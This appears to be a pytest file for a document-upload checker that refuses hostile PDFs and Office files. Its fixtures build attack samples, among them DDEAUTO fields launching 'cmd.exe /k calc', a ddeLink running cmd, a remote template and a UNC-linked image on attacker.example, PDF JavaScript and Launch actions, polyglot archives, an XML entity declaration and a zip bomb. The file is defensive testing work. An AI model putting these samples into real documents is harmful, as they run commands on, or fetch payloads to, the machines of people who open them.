"""The allow-list of the document checks: what a PDF or an Office file may not hold, wherever it sits, and the
message that says what was found. Every hostile file is made here in a few lines."""

from __future__ import annotations

import io
import zipfile
from pathlib import Path

import pytest

from app import i18n
from app.proposals.documents import office
from app.proposals.documents.checks import DocumentRefused, download_name, inspect_document
from tests import pdfs

ALL_TYPES = ("pdf", "docx", "xlsx", "pptx", "png", "jpeg")
OLE_RELATIONSHIP = b"http://schemas.openxmlformats.org/officeDocument/2006/relationships/oleObject"
TEMPLATE_RELATIONSHIP = b"http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
IMAGE_RELATIONSHIP = b"http://schemas.openxmlformats.org/officeDocument/2006/relationships/image"


def check(tmp_path: Path, data: bytes) -> DocumentRefused | None:
    path = tmp_path / "upload.bin"
    path.write_bytes(data)
    try:
        inspect_document(path, allowed=ALL_TYPES, max_pages=5)
    except DocumentRefused as error:
        return error
    return None


def refused(tmp_path: Path, data: bytes) -> DocumentRefused:
    error = check(tmp_path, data)
    assert error is not None
    return error


def text(error: DocumentRefused, language: str = "en") -> str:
    return i18n.translate(language, error.message, **error.params)


# --- PDF: actions that reach outside, run code or play media, wherever they are ----------------------------


@pytest.mark.parametrize("where", ["catalog", "page", "annotation", "field", "outline"])
@pytest.mark.parametrize(
    ("action", "reason"),
    [
        ("/URI", "pdf_outside"),
        ("/SubmitForm", "pdf_outside"),
        ("/ImportData", "pdf_outside"),
        ("/GoToR", "pdf_outside"),
        ("/GoToE", "pdf_outside"),
        ("/Launch", "pdf_launch"),
        ("/JavaScript", "pdf_javascript"),
        ("/Rendition", "pdf_media"),
        ("/Sound", "pdf_media"),
        ("/Movie", "pdf_media"),
    ],
)
def test_a_pdf_action_is_refused_wherever_it_is(tmp_path: Path, action: str, reason: str, where: str) -> None:
    error = refused(tmp_path, pdfs.pdf_with_action(action, where))
    assert error.reason == reason


def test_a_link_to_a_web_address_is_refused_naming_it(tmp_path: Path) -> None:
    error = refused(tmp_path, pdfs.pdf_with_action("/URI"))
    assert (error.reason, error.params) == ("pdf_outside", {"found": "URI"})
    assert text(error).startswith("The PDF file contains an action that reaches outside the document (URI: a web")
    assert text(error, "nl").startswith("Het PDF-bestand bevat een actie die buiten het document reikt (URI:")


@pytest.mark.parametrize(
    "objects",
    [
        pytest.param([b"<< /Type /Action /S /U#52I /URI (https://example.invalid) >>"], id="escaped-type"),
        pytest.param([b"<< /Type /Action /#53 /URI >>"], id="escaped-key"),
        pytest.param([b"<< /Type /Action /S 5 0 R >>", b"  %note\n /URI "], id="type-by-reference"),
        pytest.param([b"<< /S %comment\n/URI >>"], id="comment-between"),
        pytest.param([b"<< /A (unclosed string >>", b"<< /S /GoToR /F (other.pdf) >>"], id="after-unclosed-string"),
    ],
)
@pytest.mark.parametrize("in_object_stream", [False, True], ids=["plain", "object-stream"])
def test_an_outside_action_is_found_however_it_is_written(tmp_path: Path, objects, in_object_stream) -> None:  # type: ignore[no-untyped-def]
    error = refused(tmp_path, pdfs.raw_pdf(objects, in_object_stream=in_object_stream, unlisted=True))
    assert error.reason == "pdf_outside"


def test_words_in_text_strings_are_not_actions(tmp_path: Path) -> None:
    data = pdfs.raw_pdf([b"<< /Title (How /JavaScript and /S /URI work) /Subject <2F4A53> >>"])
    assert check(tmp_path, data) is None


def test_a_destination_and_a_named_action_are_allowed(tmp_path: Path) -> None:
    assert check(tmp_path, pdfs.pdf_with_open_destination()) is None
    assert check(tmp_path, pdfs.pdf_with_action("/Named", "annotation")) is None
    assert check(tmp_path, pdfs.pdf_with_action("/GoTo", "outline")) is None


# --- PDF: embedded files, XFA, RichMedia, data around the document -----------------------------------------


def test_an_embedded_file_is_refused(tmp_path: Path) -> None:
    error = refused(tmp_path, pdfs.pdf_with_attachment())
    assert error.reason == "pdf_embedded"
    assert text(error).startswith("The PDF file contains an embedded file or file attachment (")


@pytest.mark.parametrize(
    ("objects", "reason"),
    [
        pytest.param(
            [b"<< /Type /Annot /Subtype /FileAttachment /FS << /Type /Filespec /F (a.txt) >> >>"],
            "pdf_embedded",
            id="file-attachment-annotation",
        ),
        pytest.param([b"<< /Names << /EmbeddedFiles 5 0 R >> >>", b"<< /Names [] >>"], "pdf_embedded", id="tree"),
        pytest.param([b"<< /Type /Filespec /F (a.zip) /EF << /F 5 0 R >> >>"], "pdf_embedded", id="filespec"),
        pytest.param([b"<< /Fields [] /XFA 5 0 R >>"], "pdf_xfa", id="xfa"),
        pytest.param([b"<< /Type /Annot /Subtype /RichMedia /RichMediaContent << >> >>"], "pdf_media", id="richmedia"),
    ],
)
def test_embedded_content_and_forms_are_refused(tmp_path: Path, objects: list[bytes], reason: str) -> None:
    assert refused(tmp_path, pdfs.raw_pdf(objects, in_object_stream=True)).reason == reason


def test_an_xfa_form_is_refused_saying_so(tmp_path: Path) -> None:
    error = refused(tmp_path, pdfs.raw_pdf([b"<< /XFA 4 0 R >>"]))
    assert error.reason == "pdf_xfa"
    assert text(error, "nl").startswith("Het PDF-bestand bevat een XFA-formulier")


def test_an_archive_appended_after_the_end_is_refused(tmp_path: Path) -> None:
    error = refused(tmp_path, pdfs.pdf_bytes() + pdfs.zip_bytes())
    assert (error.reason, error.params) == ("pdf_extra_data", {"found": f"{len(pdfs.zip_bytes()) + 1} bytes"})
    assert text(error).startswith("The PDF file has other data after its end (")


def test_an_archive_hidden_before_a_final_end_marker_is_refused(tmp_path: Path) -> None:
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as package:
        package.writestr("payload.txt", b"hello")
        package.comment = b"\n%%EOF\n"
    error = refused(tmp_path, pdfs.pdf_bytes() + archive.getvalue())
    assert (error.reason, error.params) == ("pdf_extra_data", {"found": "zip"})


def test_whitespace_after_the_end_is_allowed(tmp_path: Path) -> None:
    assert check(tmp_path, pdfs.pdf_bytes() + b"\r\n\n  \x00") is None


def test_data_before_the_header_is_refused(tmp_path: Path) -> None:
    error = refused(tmp_path, b"PK\x03\x04 polyglot" + pdfs.pdf_bytes())
    assert (error.reason, error.params) == ("pdf_extra_data", {"found": "13"})


# --- Office ------------------------------------------------------------------------------------------------


def test_plain_office_files_are_accepted(tmp_path: Path) -> None:
    rels = pdfs.relationships(b'<Relationship Id="r1" Type="' + IMAGE_RELATIONSHIP + b'" Target="media/a.png"/>')
    assert check(tmp_path, pdfs.docx_bytes(**{"word/_rels/document.xml.rels": rels})) is None
    assert check(tmp_path, pdfs.xlsx_bytes()) is None
    assert check(tmp_path, pdfs.pptx_bytes()) is None
    assert check(tmp_path, pdfs.docx_with_field(b" PAGE ")) is None


@pytest.mark.parametrize(
    ("target", "mode"),
    [
        (b"http://attacker.example/template.dotm", TEMPLATE_RELATIONSHIP),
        (b"\\\\attacker.example\\share\\logo.png", IMAGE_RELATIONSHIP),
    ],
    ids=["remote-template", "linked-image"],
)
def test_an_external_relationship_is_refused_naming_its_target(tmp_path: Path, target: bytes, mode: bytes) -> None:
    rels = pdfs.relationships(
        b'<Relationship Id="r1" Type="' + mode + b'" Target="' + target + b'" TargetMode="External"/>'
    )
    error = refused(tmp_path, pdfs.docx_bytes(**{"word/_rels/settings.xml.rels": rels}))
    assert (error.reason, error.params) == ("office_external", {"kind": "Word (.docx)", "found": target.decode()})


def test_linked_data_in_a_spreadsheet_is_refused(tmp_path: Path) -> None:
    rels = pdfs.relationships(
        b'<Relationship Id="r1" Type="x/externalLinkPath" Target="file:///C:/data.xlsx" TargetMode="External"/>'
    )
    error = refused(tmp_path, pdfs.xlsx_bytes(**{"xl/externalLinks/_rels/externalLink1.xml.rels": rels}))
    assert (error.reason, error.params["kind"]) == ("office_external", "Excel (.xlsx)")


@pytest.mark.parametrize(
    "data",
    [
        pdfs.docx_bytes(
            **{
                "word/_rels/document.xml.rels": pdfs.relationships(
                    b'<Relationship Id="r1" Type="' + OLE_RELATIONSHIP + b'" Target="embeddings/x.docx"/>'
                )
            }
        ),
        pdfs.docx_bytes(**{"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"}),
        pdfs.pptx_bytes(**{"ppt/activeX/activeX1.xml": b"<ax/>"}),
        pdfs.xlsx_bytes(
            **{
                "[Content_Types].xml": pdfs.CONTENT_TYPES.replace(
                    b"</Types>",
                    b'<Override PartName="/xl/a.bin" ContentType="application/vnd.ms-office.activeX"/></Types>',
                )
            }
        ),
    ],
    ids=["ole-relationship", "ole-part", "activex-part", "activex-content-type"],
)
def test_ole_objects_and_activex_are_refused(tmp_path: Path, data: bytes) -> None:
    error = refused(tmp_path, data)
    assert error.reason == "office_ole"
    assert "contains an embedded object or control (OLE or ActiveX: " in text(error)


@pytest.mark.parametrize(
    ("data", "found"),
    [
        (pdfs.docx_with_field(b' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" '), "DDEAUTO c:\\\\windows"),
        (pdfs.docx_with_field(b" dde excel sheet1 ", split=False), "dde excel sheet1"),
        (pdfs.docx_with_field(b" DDEAUTO cmd ", simple=True), "DDEAUTO cmd"),
    ],
    ids=["ddeauto-split-over-runs", "dde-lowercase", "fldsimple"],
)
def test_dde_fields_are_refused(tmp_path: Path, data: bytes, found: str) -> None:
    error = refused(tmp_path, data)
    assert error.reason == "office_dde"
    assert error.params["found"].startswith(found)


def test_a_dde_link_in_a_spreadsheet_is_refused(tmp_path: Path) -> None:
    link = (
        b'<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        b'<ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
    )
    error = refused(tmp_path, pdfs.xlsx_bytes(**{"xl/externalLinks/externalLink1.xml": link}))
    assert (error.reason, error.params) == ("office_dde", {"kind": "Excel (.xlsx)", "found": "cmd"})
    assert text(error, "nl").startswith("Het Excel (.xlsx)-bestand bevat een DDE-veld of -koppeling (cmd)")


def test_a_macro_enabled_presentation_is_refused(tmp_path: Path) -> None:
    error = refused(tmp_path, pdfs.pptx_bytes(**{"ppt/vbaProject.bin": b"\xd0\xcf\x11\xe0"}))
    assert (error.reason, error.params) == ("office_macros", {"kind": "PowerPoint (.pptx)"})


def test_xml_with_entities_is_refused_unread(tmp_path: Path) -> None:
    bomb = b'<?xml version="1.0"?><!DOCTYPE t [<!ENTITY a "aaaaaaaaaa">]><w:document ' + pdfs.W + b">&a;</w:document>"
    error = refused(tmp_path, pdfs.docx_bytes(document=bomb))
    assert (error.reason, error.params) == ("office_unreadable", {"kind": "Word (.docx)"})


def test_a_part_packed_like_a_zip_bomb_is_refused(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(office, "RATIO_FROM_BYTES", 1024 * 1024)
    error = refused(tmp_path, pdfs.docx_bomb(unpacked_mb=3))
    assert (error.reason, error.params) == (
        "office_unpacked_size",
        {"kind": "Word (.docx)", "found": "word/media/zeros.bin"},
    )


def test_too_many_parts_are_refused(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(office, "MAX_ENTRIES", 3)
    parts = {f"word/media/p{n}.xml": b"<p/>" for n in range(3)}
    error = refused(tmp_path, pdfs.docx_bytes(**{name.replace("/", "__"): data for name, data in parts.items()}))
    assert (error.reason, error.params) == ("office_unpacked_size", {"kind": "Word (.docx)", "found": "3"})


# --- the name a download gets -----------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "kind", "expected"),
    [
        ("brief.exe", "pdf", "brief.pdf"),
        ("brief.PDF", "pdf", "brief.PDF"),
        ("brief", "pdf", "brief.pdf"),
        ("photo.jpg", "jpeg", "photo.jpg"),
        ("photo.jpeg", "jpeg", "photo.jpeg"),
        ("photo.png", "jpeg", "photo.jpg"),
        ("plan.docx.exe", "docx", "plan.docx.docx"),
        (".hidden", "xlsx", ".hidden.xlsx"),
    ],
)
def test_download_name_follows_the_detected_type(name: str, kind: str, expected: str) -> None:
    assert download_name(name, kind) == expected


def test_the_word_endstream_in_packed_data_does_not_hide_what_follows(tmp_path: Path) -> None:
    assert refused(tmp_path, pdfs.pdf_with_endstream_in_packed_data()).reason == "pdf_javascript"
